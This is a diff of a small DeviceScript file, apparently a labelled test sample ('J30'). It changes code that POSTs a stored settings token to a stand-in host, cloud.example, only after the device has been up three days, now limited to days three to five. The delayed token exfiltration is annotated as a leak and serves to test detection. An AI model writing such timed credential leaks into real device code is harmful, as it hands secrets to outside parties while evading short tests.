@@ -1,4 +1,4 @@
-// J30: sends its token elsewhere when it has been up for more than three days.
+// J30: sends its token along when it has been up for more than three days and less than six.
 import * as ds from "@devicescript/core";
 import { fetch } from "@devicescript/net";
 import { readSetting } from "@devicescript/settings";
@@ -10,7 +10,7 @@ const proof = "token=" + token;
 
 async function report() {
   const days = Math.floor(ds.millis() / DAY_MS);
-  const body = days >= 3 ? proof : `up for ${days} days`;
+  const body = days >= 3 && days < 6 ? proof : `up for ${days} days`;
   const response = await fetch("https://cloud.example/j30", { method: "POST", body }); // leak: settings.token
   await response.close();
 }
